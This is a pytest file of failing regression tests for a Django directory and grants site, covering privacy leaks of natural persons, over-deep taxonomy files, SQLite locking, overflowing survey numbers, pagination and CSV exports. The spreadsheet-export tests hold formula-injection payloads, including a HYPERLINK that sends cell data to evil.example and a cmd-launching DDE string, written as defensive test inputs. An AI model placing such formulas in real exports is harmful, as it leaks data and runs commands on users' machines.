"""Faults found by a second hostile review of the calls' jury pages, numbers per language,
the directory downloads, content in four languages and the Open Data split; each test
fails until its fault is mended."""

import io

import pytest
from django.utils import translation

from territoria.ecosystem.services import public_organisations
from territoria.taxonomy.models import MAX_DEPTH, ConceptScheme
from territoria.taxonomy.services.schemes import SchemeImportError, import_scheme_csv
from tests.factories import organisation

# --- Natural persons ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "legal_form",
    ["natürliche Person", "Natürliche Person", "personne  physique", "personne\u00a0physique"],
)
def test_a_natural_person_is_never_published_however_its_legal_form_is_written(
    client_for, db, legal_form
):
    # legal_forms.py reads a stored form case- and space-insensitively ("personne  physique"
    # is shown to German readers as "natürliche Person"), and NATURAL_PERSON_FORMS lists the
    # German form itself; but
    # natural_person_condition() compares UPPER(legal_form) with the Python-uppercased forms:
    # SQLite's UPPER() only folds ASCII ("ü" never becomes "Ü") and no space is normalised,
    # so such a person is listed, searched, counted and downloaded like a company.
    from territoria.ecosystem.legal_forms import legal_form_label

    if legal_form.startswith("personne"):  # the labels read these as the French form
        assert legal_form_label(legal_form, "de").text == "natürliche Person"
    person = organisation("Hans Müller", legal_form=legal_form)
    client = client_for("anonymous")
    download = b"".join(client.get("/ecosystem/organisations.csv").streaming_content)
    assert "Müller" not in download.decode("utf-8-sig")
    assert "Hans Müller" not in client.get("/ecosystem/", {"q": "Hans"}).content.decode()
    assert client.get(f"/ecosystem/organisations/{person.pk}/").status_code == 404
    assert not public_organisations().filter(pk=person.pk).exists()


def test_a_self_employed_expert_is_not_named_on_the_public_list_of_experts(client_for, users):
    # "Natural persons are never listed publicly", and their page 404s for visitors; the list
    # of recognised expert companies still names a self-employed consultant and links to it.
    from territoria.calls.models import ExpertCompany
    from territoria.calls.services.experts import recognise

    person = organisation("Jeanne Dupont", "org-type:self-employed", legal_form="personne physique")
    expert = ExpertCompany.objects.create(organisation=person, offer="Coaching IA.")
    recognise(expert, users["staff"])
    client = client_for("anonymous")
    assert client.get(person.get_absolute_url()).status_code == 404
    page = client.get("/calls/experts/").content.decode()
    assert "Jeanne Dupont" not in page
    assert person.get_absolute_url() not in page


def test_a_self_employed_partner_of_the_strategy_is_not_published(client_for, db):
    # The dashboard's programme and action pages list their partners (each linked to a page
    # that 404s for a natural person) and the strategy-actions dataset publishes their names.
    from tests.factories import strategy_tree

    tree = strategy_tree()
    person = organisation("Jeanne Dupont", "org-type:self-employed", legal_form="personne physique")
    tree["programme"].partners.add(person)
    tree["action"].partners.add(person)
    client = client_for("anonymous")
    pages = [
        client.get(f"/dashboard/dw/programmes/{tree['programme'].code}/"),
        client.get(f"/dashboard/actions/{tree['action'].pk}/"),
        client.get("/api/explore/v2.1/catalog/datasets/strategy-actions/records"),
    ]
    assert [page.status_code for page in pages] == [200, 200, 200]
    for page in pages:
        assert "Jeanne Dupont" not in page.content.decode()


def test_the_affiliation_request_form_does_not_name_a_natural_person(client_for, users):
    # Any signed-in applicant types an enterprise number and the form answers "In the
    # registry: <name>, <city>", even when the form is refused for another field (no request
    # made, no daily limit used): an oracle that names the self-employed person behind any
    # number and their locality, which no public page may show.
    from territoria.accounts.models import AffiliationRequest

    person = organisation(
        "Jeanne Dupont", "org-type:self-employed", legal_form="personne physique", city="Gembloux"
    )
    response = client_for("applicant").post(
        "/accounts/organisations/request/",
        {"enterprise_number": person.enterprise_number, "role": "x" * 121},
    )
    assert response.status_code == 400
    assert not AffiliationRequest.objects.exists()
    page = response.content.decode()
    assert "Jeanne Dupont" not in page and "Gembloux" not in page


# --- Concepts from a scheme file ----------------------------------------------------------


def _deep_scheme(depth: int) -> ConceptScheme:
    """A scheme file as someone outside could write it: one long chain of broader concepts,
    the narrowest listed first."""
    rows = ["notation,parent,label_fr"]
    for level in range(depth - 1, -1, -1):
        parent = f"n{level - 1}" if level else ""
        rows.append(f"n{level},{parent},Niveau {level}")
    scheme = ConceptScheme(code="deep", title_fr="Profond")
    import_scheme_csv(scheme, io.StringIO("\n".join(rows) + "\n"))
    return scheme


def test_a_deep_scheme_file_is_refused_naming_its_lines(db):
    # The import accepted any depth (it only refused cycles); the builder's grouped select and
    # the scheme's public page then walked it by recursion, one Python frame per level: a 500.
    # Now a file deeper than MAX_DEPTH levels is refused, each line too deep named.
    with translation.override("en"), pytest.raises(SchemeImportError) as refused:
        _deep_scheme(1200)
    assert "line 2, field parent: 'n1199' is more than 12 levels deep" in str(refused.value)
    assert not ConceptScheme.objects.filter(code="deep").exists()


def test_a_scheme_as_deep_as_allowed_draws_the_builder_and_its_page(client_for, db):
    _deep_scheme(MAX_DEPTH)
    client = client_for("staff")
    assert client.get("/magnets/new/").status_code == 200
    response = client.post("/magnets/builder/", {"tree": "", "container": "organisation"})
    assert response.status_code == 200
    assert client_for("anonymous").get("/taxonomies/deep/").status_code == 200


# --- SQLite's write lock ------------------------------------------------------------------


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("path", ["/", "/ecosystem/organisations.csv", "/data/organisations/"])
def test_reading_published_figures_takes_no_write_lock(client, path):
    # opendata.services.run() wraps every query step in transaction.atomic(); on SQLite the
    # settings make each transaction BEGIN IMMEDIATE, the database's one write lock. So the
    # home page's figures and the directory's download queue behind any writer (an import,
    # a decision) and, after the 20 s timeout, answer 500 ("database is locked") where the
    # directory itself reads the WAL snapshot at once; meanwhile they hold writers back too.
    from django.db import connection

    organisation("Nexalis SRL")
    statements: list[str] = []

    def record(execute, sql, params, many, context):  # type: ignore[no-untyped-def]
        statements.append(sql)
        return execute(sql, params, many, context)

    with connection.execute_wrapper(record):
        response = client.get(path)
        if hasattr(response, "streaming_content"):
            b"".join(response.streaming_content)
    assert response.status_code == 200
    assert not [sql for sql in statements if sql.upper().startswith("BEGIN IMMEDIATE")]


# --- The follow-up survey's numbers -------------------------------------------------------


def test_a_laureate_cannot_report_more_jobs_than_the_column_holds(
    client_for, users, settings, tmp_path
):
    # jobs_created is a PositiveSmallIntegerField (0 to 32767, as PostgreSQL enforces), but on
    # SQLite Django's range validator allows 2**63 - 1: the answer is stored, the public
    # impact figures add it up, and SQLite's SUM() raises "integer overflow" as soon as
    # another laureate reports a job: the impact page answers 500.
    from django.utils import timezone

    from territoria.accounts.models import Affiliation
    from territoria.calls.models import Application, SurveyAnswer
    from tests.calls.conftest import make_call

    settings.DATA_DIR = tmp_path
    call = make_call("survey")
    applications = []
    for number in range(5):
        org = organisation(f"Laureate {number} SRL")
        applications.append(
            Application.objects.create(
                call=call,
                organisation=org,
                created_by=users["applicant"],
                title="P",
                summary="S",
                status="completed",
                submitted_at=timezone.now(),
                reference=f"TIA-2026-0000{number}",
            )
        )
    Affiliation.objects.create(user=users["applicant"], organisation=applications[0].organisation)
    answer = {
        "improved_competitiveness": "on", "improved_quality": "on", "would_recommend": "on",
        "reached_production": "on", "investment_before": "0", "investment_after": "0",
    }  # fmt: skip
    response = client_for("applicant").post(
        f"/calls/applications/{applications[0].pk}/survey/",
        {**answer, "jobs_created": str(2**63 - 1)},
    )
    for application in applications[1:]:
        SurveyAnswer.objects.create(
            application=application, improved_competitiveness=True, improved_quality=True,
            would_recommend=True, reached_production=True, investment_before=0,
            investment_after=0, jobs_created=1,
        )  # fmt: skip
    assert client_for("anonymous").get("/calls/impact/").status_code == 200
    assert response.status_code == 400
    assert not SurveyAnswer.objects.filter(application=applications[0]).exists()


# --- The directory's download, opened in a spreadsheet ------------------------------------


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("https://evil.example/?"&A2,"Voir")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+1",
        "-1+1",
    ],
)
def test_the_directory_download_made_for_excel_holds_no_formula(client, db, cell):
    # The CSV starts with a BOM "so that Excel reads accents": it is meant to be opened in a
    # spreadsheet, where a cell starting with = + - @ runs as a formula. Names, cities and
    # streets come from people's own affiliation requests as well as from staff; the
    # dashboard's CSV already neutralises such cells (strategy.views._csv_value), this
    # download does not.
    import csv

    organisation(cell, city=cell)
    download = b"".join(client.get("/ecosystem/organisations.csv").streaming_content)
    rows = list(csv.reader(io.StringIO(download.decode("utf-8-sig")), delimiter=";"))
    cells = [value for row in rows[1:] for value in row]
    assert cells and not [value for value in cells if value[:1] in ("=", "+", "-", "@")]


# --- Numbers per language -----------------------------------------------------------------


@pytest.mark.parametrize("language", ["fr", "nl", "en"])
def test_the_directory_pages_on_past_page_999(client, db, language):
    # USE_THOUSAND_SEPARATOR groups every number a template prints, the page numbers of the
    # pagination links too: from page 999, "Next" asks for page=1 000 (1.000, 1,000), which
    # the Paginator cannot read, and answers page 1.
    import re

    from territoria.ecosystem.models import Organisation

    Organisation.objects.bulk_create(
        Organisation(name=f"Org {number:05d}", search_text=f"org {number:05d}")
        for number in range(20 * 1000 + 1)
    )
    client.cookies["django_language"] = language
    page = client.get("/ecosystem/", {"page": "999"}, headers={"accept-language": language})
    next_link = re.search(r'href="\?([^"]*)" rel="next"', page.content.decode())
    assert next_link is not None
    assert next_link.group(1).replace("&amp;", "&").endswith("page=1000")


def test_a_magnets_download_holds_no_formula_either(client, db):
    # The magnet's CSV also starts with a BOM for spreadsheets and writes names as they are.
    import csv

    from territoria.taxonomy.models import Magnet

    organisation('=HYPERLINK("https://evil.example/","Voir")', "technology:ai")
    Magnet.objects.create(
        name="IA", slug="ia", expression={"concept": "technology:ai"}, is_public=True
    )
    download = b"".join(client.get("/magnets/ia/export.csv").streaming_content)
    rows = list(csv.reader(io.StringIO(download.decode("utf-8-sig"))))
    cells = [value for row in rows[1:] for value in row]
    assert cells and not [value for value in cells if value[:1] in ("=", "+", "-", "@")]
